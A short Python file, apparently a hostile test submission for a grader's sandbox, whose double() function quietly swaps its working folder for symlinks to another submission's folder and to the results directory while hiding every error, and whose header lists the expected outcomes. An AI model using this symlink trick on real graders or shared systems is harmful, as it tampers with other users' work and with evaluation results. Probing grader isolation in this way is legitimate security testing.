"""Exchanges its own folder for a link to someone else's while the grader works in it.

must: ok | crashed
harm: planted
then: ok | crashed
"""

import contextlib
import os


def double(x):
    here = os.getcwd()
    with contextlib.suppress(OSError):
        os.rename(here, here + "-away")
        os.symlink("@SUBMISSIONS@/victim", here)
    with contextlib.suppress(OSError):
        os.mkdir("parts")
        os.symlink("@SUBMISSIONS@/victim", "parts/victim")
        os.symlink("@RESULTS@", "parts/results")
    with contextlib.suppress(OSError):
        os.rmdir(here)
    return 2 * x


def triple(x):
    return 3 * x
